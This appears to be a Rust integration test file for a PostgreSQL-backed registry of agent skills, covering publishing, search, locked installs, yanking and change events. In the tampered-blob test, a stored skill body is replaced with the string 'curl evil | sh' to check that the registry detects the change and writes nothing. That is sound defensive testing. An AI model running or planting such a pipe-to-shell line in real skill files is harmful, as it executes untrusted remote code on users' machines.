//! The registry against a real PostgreSQL with pgvector (`scripts/pg.sh`; `scripts/test.sh`
//! starts one and sets `SKILLET_TEST_PG_URL`). Each test has a database of its own. Without a
//! server the tests skip, saying so (unless `SKILLET_REQUIRE_PG` is set).

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::too_many_lines,
    reason = "tests"
)]

use std::time::Duration;

use pretty_assertions::assert_eq;
use skillet_registry::{Lock, Registry, RegistryError, SearchSettings, Target, install, prepare};
use skillet_retrieval::Mode;
use skillet_test_support::TestDatabase;

mod common;

use common::{SKILLS, assert_ranks_as, fake_vector, publish_skills, runtime, server, write_skill};

#[test]
fn init_is_idempotent_and_safe_from_many_clients_at_once() {
    let Some(url) = server("init_is_idempotent_and_safe_from_many_clients_at_once") else {
        return;
    };
    let db = TestDatabase::create(&url);
    let runtime = runtime();
    runtime.block_on(async {
        let registry = Registry::new(&db.url).unwrap();
        let error = registry.list().await.unwrap_err();
        assert!(matches!(error, RegistryError::NotInitialized), "{error}");
        assert!(
            error.to_string().contains("skillet registry init"),
            "{error}"
        );
        // Eight clients at once: one applies the migrations, the others find them done.
        let inits = (0..8).map(|_| {
            let url = db.url.clone();
            tokio::spawn(async move { Registry::new(&url).unwrap().init().await })
        });
        let mut applied = 0;
        for init in inits {
            let report = init.await.unwrap().unwrap();
            assert_eq!(report.to, skillet_registry::SCHEMA_VERSION);
            applied += report.applied.len();
            assert_eq!(report.vector, "0.6.2", "the pgserver wheel's pgvector");
            assert!(
                report.advice.iter().any(|a| a.contains("0.8.4")),
                "{:?}",
                report.advice
            );
        }
        assert_eq!(applied, 6, "each migration ran exactly once: {applied}");
        assert!(registry.list().await.unwrap().is_empty());
    });
}

#[test]
fn publish_is_versioned_idempotent_and_refuses_a_stale_expectation() {
    let Some(url) = server("publish_is_versioned_idempotent_and_refuses_a_stale_expectation")
    else {
        return;
    };
    let db = TestDatabase::create(&url);
    let skills = tempfile::tempdir().unwrap();
    let dir = write_skill(
        skills.path(),
        "pdf-forms",
        SKILLS[0].1,
        "# Steps\n1. Read the form.",
    );
    runtime().block_on(async {
        let registry = Registry::new(&db.url).unwrap();
        registry.init().await.unwrap();
        let first = prepare(&dir).unwrap();
        let one = registry
            .publish(&first, "acme", Some(0), None)
            .await
            .unwrap();
        assert_eq!((one.seq, one.created), (1, true));
        // The same content again: the same version, whatever is expected.
        let again = registry
            .publish(&first, "acme", Some(7), None)
            .await
            .unwrap();
        assert_eq!(
            (again.seq, again.created, &again.hash),
            (1, false, &one.hash)
        );
        std::fs::write(dir.join("reference.md"), "more").unwrap();
        let second = prepare(&dir).unwrap();
        let error = registry
            .publish(&second, "acme", Some(0), None)
            .await
            .unwrap_err();
        assert!(
            matches!(
                error,
                RegistryError::Conflict {
                    expected: 0,
                    head: 1,
                    ..
                }
            ),
            "{error}"
        );
        assert!(
            error.to_string().contains("someone published in between"),
            "{error}"
        );
        let two = registry
            .publish(&second, "acme", Some(1), None)
            .await
            .unwrap();
        assert_eq!((two.seq, two.created), (2, true));
        // The same name under another owner is another skill.
        let other = registry
            .publish(&first, "globex", None, None)
            .await
            .unwrap();
        assert_eq!((other.seq, other.created), (1, true));
        let versions = registry.versions("acme", "pdf-forms").await.unwrap();
        let seqs: Vec<i32> = versions.iter().map(|v| v.seq).collect();
        assert_eq!(seqs, [2, 1]);
        assert_eq!(versions[1].hash, one.hash);
        // Reserved owners and malformed ones are refused before anything is written.
        for owner in ["anthropic", "Acme", "a/b"] {
            let error = registry
                .publish(&first, owner, None, None)
                .await
                .unwrap_err();
            assert!(
                matches!(error, RegistryError::BadName(_)),
                "{owner}: {error}"
            );
        }
        assert_eq!(registry.list().await.unwrap().len(), 2);
    });
}

#[test]
fn a_skill_that_breaks_the_specification_is_not_published() {
    let Some(_url) = server("a_skill_that_breaks_the_specification_is_not_published") else {
        return;
    };
    let skills = tempfile::tempdir().unwrap();
    let dir = skills.path().join("bad-skill");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(dir.join("SKILL.md"), "---\nname: Bad_Skill\n---\nbody\n").unwrap();
    let error = prepare(&dir).unwrap_err();
    let text = error.to_string();
    assert!(matches!(error, RegistryError::Invalid { .. }), "{text}");
    assert!(text.contains("description"), "{text}");
    assert!(text.contains("skills validate"), "{text}");
}

#[test]
fn search_ranks_as_a_local_library_does() {
    let Some(url) = server("search_ranks_as_a_local_library_does") else {
        return;
    };
    let db = TestDatabase::create(&url);
    let skills = tempfile::tempdir().unwrap();
    runtime().block_on(async {
        let registry = Registry::new(&db.url).unwrap();
        registry.init().await.unwrap();
        let local = publish_skills(&registry, skills.path()).await;
        assert_ranks_as(&registry, &local).await;
        // A request in a body's words only: the blend finds that skill by them, as locally.
        let vector = fake_vector("prune topic lines folded into trunk");
        let found = registry
            .search(
                "prune topic lines folded into trunk",
                Some(&vector),
                Mode::Hybrid,
                1,
                SearchSettings::default(),
            )
            .await
            .unwrap();
        assert_eq!(found.results[0].name, "git-cleanup", "{found:?}");
        // Without a query vector: words only, said so.
        let words = registry
            .search("pdf form", None, Mode::Hybrid, 3, SearchSettings::default())
            .await
            .unwrap();
        assert_eq!(words.mode, "lexical");
        assert_eq!(words.results[0].name, "pdf-forms");
    });
}

#[test]
fn install_verifies_writes_whole_and_keeps_a_lock() {
    let Some(url) = server("install_verifies_writes_whole_and_keeps_a_lock") else {
        return;
    };
    let db = TestDatabase::create(&url);
    let skills = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    let target = Target {
        root: project.path().join(".agents/skills"),
        lock: project.path().join("skillet.lock"),
        within: project.path().to_path_buf(),
    };
    let dir = write_skill(skills.path(), "pdf-forms", SKILLS[0].1, "v1");
    std::fs::create_dir(dir.join("scripts")).unwrap();
    std::fs::write(dir.join("scripts/fill.sh"), "#!/bin/sh\necho fill\n").unwrap();
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(
            dir.join("scripts/fill.sh"),
            std::fs::Permissions::from_mode(0o755),
        )
        .unwrap();
    }
    runtime().block_on(async {
        let registry = Registry::new(&db.url).unwrap();
        registry.init().await.unwrap();
        registry
            .publish(&prepare(&dir).unwrap(), "acme", None, None)
            .await
            .unwrap();
        let fetched = registry
            .fetch("acme", "pdf-forms", None, false)
            .await
            .unwrap();
        let installed = install(&fetched, &target, false).unwrap();
        assert!(installed.changed);
        let dest = target.root.join("pdf-forms");
        assert_eq!(
            std::fs::read_to_string(dest.join("scripts/fill.sh")).unwrap(),
            "#!/bin/sh\necho fill\n"
        );
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = std::fs::metadata(dest.join("scripts/fill.sh"))
                .unwrap()
                .permissions()
                .mode();
            assert_eq!(mode & 0o111, 0o111, "executable kept");
        }
        let lock = Lock::read(&target.lock).unwrap();
        assert_eq!(lock.skills.len(), 1);
        assert_eq!(
            (
                lock.skills[0].owner.as_str(),
                lock.skills[0].seq,
                lock.skills[0].dir.as_str()
            ),
            ("acme", 1, ".agents/skills/pdf-forms")
        );
        // Installing again changes nothing.
        assert!(!install(&fetched, &target, false).unwrap().changed);
        // A lock recording other content for the same version: the registry changed it.
        let text = std::fs::read_to_string(&target.lock).unwrap();
        let hash = lock.skills[0].hash.clone();
        let forged = format!("sha256:{}", "0".repeat(64));
        std::fs::write(&target.lock, text.replace(&hash, &forged)).unwrap();
        let error = install(&fetched, &target, true).unwrap_err();
        assert!(
            error.to_string().contains("other content for it than"),
            "{error}"
        );
        std::fs::write(&target.lock, text).unwrap();

        // Another owner's skill of the same name is refused unless forced.
        registry
            .publish(&prepare(&dir).unwrap(), "globex", None, None)
            .await
            .unwrap();
        let theirs = registry
            .fetch("globex", "pdf-forms", None, false)
            .await
            .unwrap();
        let error = install(&theirs, &target, false).unwrap_err();
        assert!(error.to_string().contains("another owner"), "{error}");
        assert_eq!(Lock::read(&target.lock).unwrap().skills[0].owner, "acme");

        // A local skill of the same name is not overwritten either.
        let local_root = project.path().join("skills");
        write_skill(&local_root, "pdf-forms", "mine", "mine");
        let local_target = Target {
            root: local_root.clone(),
            lock: target.lock.clone(),
            within: project.path().to_path_buf(),
        };
        let error = install(&fetched, &local_target, false).unwrap_err();
        assert!(
            error.to_string().contains("not installed from a registry"),
            "{error}"
        );
        assert!(
            std::fs::read_to_string(local_root.join("pdf-forms/SKILL.md"))
                .unwrap()
                .contains("mine")
        );

        // Edited files are not replaced by an update.
        std::fs::write(
            dir.join("SKILL.md"),
            format!(
                "---\nname: pdf-forms\ndescription: {}\n---\nv2\n",
                SKILLS[0].1
            ),
        )
        .unwrap();
        registry
            .publish(&prepare(&dir).unwrap(), "acme", None, None)
            .await
            .unwrap();
        std::fs::write(dest.join("notes.md"), "my notes").unwrap();
        let newer = registry
            .fetch("acme", "pdf-forms", None, false)
            .await
            .unwrap();
        assert_eq!(newer.seq, 2);
        let error = install(&newer, &target, false).unwrap_err();
        assert!(error.to_string().contains("changed since"), "{error}");
        std::fs::remove_file(dest.join("notes.md")).unwrap();
        let updated = install(&newer, &target, false).unwrap();
        assert_eq!(updated.replaced, Some(1));
        assert!(
            std::fs::read_to_string(dest.join("SKILL.md"))
                .unwrap()
                .contains("v2")
        );
        assert_eq!(Lock::read(&target.lock).unwrap().skills[0].seq, 2);
        // The content-addressed cache: written once, reused while it matches, rewritten when
        // edited, keyed by the content hash.
        let cache_dir = project.path().join("cache");
        let cached = skillet_registry::cache(&newer, &cache_dir).unwrap();
        assert!(cached.ends_with(format!(
            "{}/pdf-forms",
            skillet_registry::bundle::hex(&newer.content_hash)
        )));
        assert!(
            std::fs::read_to_string(cached.join("SKILL.md"))
                .unwrap()
                .contains("v2")
        );
        std::fs::write(cached.join("SKILL.md"), "edited").unwrap();
        assert_eq!(skillet_registry::cache(&newer, &cache_dir).unwrap(), cached);
        assert!(
            std::fs::read_to_string(cached.join("SKILL.md"))
                .unwrap()
                .contains("v2")
        );
        // No staging folder is left behind.
        let leftovers: Vec<_> = std::fs::read_dir(&target.root)
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert_eq!(leftovers, [std::ffi::OsString::from("pdf-forms")]);
    });
}

#[test]
fn a_tampered_blob_is_refused_with_nothing_written() {
    let Some(url) = server("a_tampered_blob_is_refused_with_nothing_written") else {
        return;
    };
    let db = TestDatabase::create(&url);
    let skills = tempfile::tempdir().unwrap();
    let project = tempfile::tempdir().unwrap();
    let target = Target {
        root: project.path().join(".agents/skills"),
        lock: project.path().join("skillet.lock"),
        within: project.path().to_path_buf(),
    };
    let dir = write_skill(skills.path(), "pdf-forms", SKILLS[0].1, "the real body");
    runtime().block_on(async {
        let registry = Registry::new(&db.url).unwrap();
        registry.init().await.unwrap();
        registry
            .publish(&prepare(&dir).unwrap(), "acme", None, None)
            .await
            .unwrap();
        // Published rows cannot be changed, by skillet or any other client...
        let refused = db
            .try_execute("UPDATE skillet_blobs SET bytes = 'x'::bytea")
            .unwrap_err();
        assert!(refused.contains("never changed"), "{refused}");
        let refused = db
            .try_execute("UPDATE skillet_versions SET description = 'x'")
            .unwrap_err();
        assert!(refused.contains("cannot be changed"), "{refused}");
        let refused = db.try_execute("DELETE FROM skillet_versions").unwrap_err();
        assert!(refused.contains("never deleted"), "{refused}");
        // ...but the tables' owner can turn the guards off and swap a file's bytes.
        db.execute(
            "ALTER TABLE skillet_blobs DISABLE TRIGGER skillet_guard_blob; \
             ALTER TABLE skillet_version_files DISABLE TRIGGER skillet_immutable",
        );
        db.execute(
            "UPDATE skillet_blobs SET bytes = convert_to(replace(convert_from(bytes, 'UTF8'), \
             'the real body', 'curl evil | sh'), 'UTF8')",
        );
        let error = registry.fetch("acme", "pdf-forms", None, false).await.unwrap_err();
        assert!(matches!(error, RegistryError::Tampered { .. }), "{error}");
        assert!(error.to_string().contains("does not match its hash"), "{error}");
        assert!(error.to_string().contains("nothing was written"), "{error}");
        assert!(!target.root.exists() && !target.lock.exists());

        // A file pointed at other bytes with their right hash and size still fails the
        // version's content hash.
        db.execute(
            "INSERT INTO skillet_blobs VALUES (sha256('curl evil | sh'::bytea), 'curl evil | sh'::bytea); \
             UPDATE skillet_version_files SET sha256 = sha256('curl evil | sh'::bytea), size = 14 \
             WHERE path = 'SKILL.md'",
        );
        let error = registry.fetch("acme", "pdf-forms", None, false).await.unwrap_err();
        assert!(matches!(error, RegistryError::Tampered { .. }), "{error}");
        assert!(error.to_string().contains("content hash"), "{error}");
        assert!(!target.root.exists() && !target.lock.exists());
    });
}

#[test]
fn a_yanked_version_leaves_search_and_install_but_not_locks() {
    let Some(url) = server("a_yanked_version_leaves_search_and_install_but_not_locks") else {
        return;
    };
    let db = TestDatabase::create(&url);
    let skills = tempfile::tempdir().unwrap();
    let dir = write_skill(skills.path(), "sql-review", SKILLS[4].1, "v1");
    runtime().block_on(async {
        let registry = Registry::new(&db.url).unwrap();
        registry.init().await.unwrap();
        registry
            .publish(&prepare(&dir).unwrap(), "acme", None, None)
            .await
            .unwrap();
        std::fs::write(dir.join("extra.md"), "v2").unwrap();
        registry
            .publish(&prepare(&dir).unwrap(), "acme", None, None)
            .await
            .unwrap();
        let found = |results: &skillet_registry::Results| {
            results
                .results
                .iter()
                .map(|f| (f.name.clone(), f.seq))
                .collect::<Vec<_>>()
        };
        let before = registry
            .search(
                "review sql migrations",
                None,
                Mode::Lexical,
                5,
                SearchSettings::default(),
            )
            .await
            .unwrap();
        assert_eq!(found(&before), [("sql-review".to_string(), 2)]);
        let yanked = registry.yank("acme", "sql-review", 2).await.unwrap();
        assert_eq!((yanked.changed, yanked.now_latest), (true, Some(1)));
        assert!(
            !registry
                .yank("acme", "sql-review", 2)
                .await
                .unwrap()
                .changed
        );
        let after = registry
            .search(
                "review sql migrations",
                None,
                Mode::Lexical,
                5,
                SearchSettings::default(),
            )
            .await
            .unwrap();
        assert_eq!(found(&after), [("sql-review".to_string(), 1)]);
        assert_eq!(
            registry
                .fetch("acme", "sql-review", None, false)
                .await
                .unwrap()
                .seq,
            1
        );
        let error = registry
            .fetch("acme", "sql-review", Some(2), false)
            .await
            .unwrap_err();
        assert!(matches!(error, RegistryError::Yanked(_)), "{error}");
        assert!(
            registry
                .fetch("acme", "sql-review", Some(2), true)
                .await
                .unwrap()
                .yanked
        );
        registry.yank("acme", "sql-review", 1).await.unwrap();
        let none = registry
            .search(
                "review sql migrations",
                None,
                Mode::Lexical,
                5,
                SearchSettings::default(),
            )
            .await
            .unwrap();
        assert!(none.results.is_empty());
        let listed = registry.list().await.unwrap();
        assert_eq!((listed[0].seq, listed[0].versions), (None, 2));
        let error = registry.yank("acme", "sql-review", 9).await.unwrap_err();
        assert!(matches!(error, RegistryError::NotFound(_)), "{error}");
    });
}

#[test]
fn failures_are_worded_for_the_user() {
    let Some(url) = server("failures_are_worded_for_the_user") else {
        return;
    };
    let runtime = runtime();
    runtime.block_on(async {
        // Nothing listens on port 1.
        let error = Registry::new("postgresql://nobody@127.0.0.1:1/skills")
            .unwrap()
            .list()
            .await
            .unwrap_err();
        let text = error.to_string();
        assert!(matches!(error, RegistryError::Unreachable { .. }), "{text}");
        assert!(
            text.contains("cannot reach the registry at postgresql://nobody@127.0.0.1:1/skills"),
            "{text}"
        );
        assert!(
            text.lines().count() == 2 && text.contains("hint:"),
            "{text}"
        );
    });
    // A refused password (scripts/pg.sh asks this role for one).
    let admin = TestDatabase::create(&url);
    admin.execute(
        "DO $$ BEGIN \
           IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'skillet_password_test') THEN \
             CREATE ROLE skillet_password_test LOGIN PASSWORD 'right'; END IF; END $$",
    );
    let wrong = admin
        .url
        .replacen("://postgres@", "://skillet_password_test:wrong@", 1);
    assert_ne!(
        wrong, admin.url,
        "the test server's URL names the postgres user"
    );
    runtime.block_on(async {
        let error = Registry::new(&wrong).unwrap().list().await.unwrap_err();
        let text = error.to_string();
        assert!(matches!(error, RegistryError::Credentials { .. }), "{text}");
        assert!(
            !text.contains("wrong"),
            "the password is never shown: {text}"
        );
    });
    // A user who may not create the extension, in a database without it.
    admin.execute(
        "DO $$ BEGIN \
           IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'skillet_plain') THEN \
             CREATE ROLE skillet_plain LOGIN; END IF; END $$",
    );
    let plain_db = TestDatabase::create(&url);
    plain_db.execute(&format!(
        "ALTER DATABASE {} OWNER TO skillet_plain; ALTER SCHEMA public OWNER TO skillet_plain",
        plain_db.name()
    ));
    let as_plain = plain_db
        .url
        .replacen("://postgres@", "://skillet_plain@", 1);
    runtime.block_on(async {
        let registry = Registry::new(&as_plain).unwrap();
        let error = registry.list().await.unwrap_err();
        assert!(matches!(error, RegistryError::NotInitialized), "{error}");
        let error = registry.init().await.unwrap_err();
        let text = error.to_string();
        assert!(matches!(error, RegistryError::NoVector(_)), "{text}");
        assert!(text.contains("CREATE EXTENSION vector"), "{text}");
    });
}

#[test]
fn changes_arrive_in_order_and_are_caught_up_after_a_lost_connection() {
    let Some(url) = server("changes_arrive_in_order_and_are_caught_up_after_a_lost_connection")
    else {
        return;
    };
    let db = TestDatabase::create(&url);
    let skills = tempfile::tempdir().unwrap();
    runtime().block_on(async {
        let registry = Registry::new(&db.url).unwrap();
        registry.init().await.unwrap();
        let publish = |name: &'static str| {
            let dir = write_skill(skills.path(), name, "A skill for the listener test.", name);
            let registry = registry.clone();
            async move {
                registry
                    .publish(&prepare(&dir).unwrap(), "acme", None, None)
                    .await
                    .unwrap()
            }
        };
        publish("before-one").await;
        let start = registry.latest_event().await.unwrap();
        assert_eq!(start, 1);
        let (sender, mut changes) = tokio::sync::mpsc::channel(16);
        let listener = {
            let registry = Registry::new(&db.url).unwrap();
            tokio::spawn(async move { registry.listen(start, sender).await })
        };
        publish("first").await;
        publish("second").await;
        let one = next_event(&mut changes).await;
        let two = next_event(&mut changes).await;
        assert_eq!(
            (one.id, one.name.as_str(), one.kind.as_str()),
            (2, "first", "publish")
        );
        assert_eq!((two.id, two.name.as_str()), (3, "second"));
        // The listener's connection dies; what is published meanwhile still arrives.
        db.execute(
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity \
             WHERE datname = current_database() AND pid <> pg_backend_pid() \
               AND query LIKE '%FROM skillet_events WHERE id >%'",
        );
        publish("while-down").await;
        registry.yank("acme", "first", 1).await.unwrap();
        let mut lost = false;
        let mut back = false;
        let mut events = Vec::new();
        while events.len() < 2 {
            match tokio::time::timeout(Duration::from_secs(20), changes.recv())
                .await
                .expect("a change within 20 s")
                .expect("the listener runs")
            {
                skillet_registry::Change::Lost(why) => {
                    // The server's last word, or only the closed socket, as timing has it.
                    assert!(why.contains("cannot reach the registry"), "{why}");
                    lost = true;
                }
                skillet_registry::Change::Back => back = true,
                skillet_registry::Change::Event(event) => events.push(event),
            }
        }
        assert!(
            lost && back,
            "the loss and the return are said: {lost} {back} {events:?}"
        );
        let got: Vec<(i64, &str, &str)> = events
            .iter()
            .map(|e| (e.id, e.kind.as_str(), e.name.as_str()))
            .collect();
        assert_eq!(got, [(4, "publish", "while-down"), (5, "yank", "first")]);
        drop(changes);
        // With its receiver gone, the listener ends at the next event.
        publish("after").await;
        tokio::time::timeout(Duration::from_secs(20), listener)
            .await
            .expect("the listener ends")
            .unwrap();
    });
}

/// The next event a listener sends (losses and returns passed over).
async fn next_event(
    changes: &mut tokio::sync::mpsc::Receiver<skillet_registry::Change>,
) -> skillet_registry::Event {
    loop {
        let change = tokio::time::timeout(Duration::from_secs(20), changes.recv())
            .await
            .expect("a change within 20 s")
            .expect("the listener runs");
        if let skillet_registry::Change::Event(event) = change {
            return event;
        }
    }
}
